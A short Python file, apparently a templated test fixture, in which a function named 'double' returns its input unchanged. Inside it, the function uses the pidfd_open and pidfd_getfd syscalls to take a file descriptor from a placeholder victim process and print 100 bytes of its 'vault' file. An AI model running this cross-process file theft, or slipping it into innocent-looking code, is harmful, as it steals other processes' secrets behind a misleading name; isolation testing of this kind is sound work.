import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])


def double(x):
    pidfd = call(434, int("@VICTIM@"), 0)
    if pidfd >= 0:
        fd = call(438, pidfd, int("@VAULT@"), 0)
        if fd >= 0:
            print(os.pread(fd, 100, 0), flush=True)
    return x
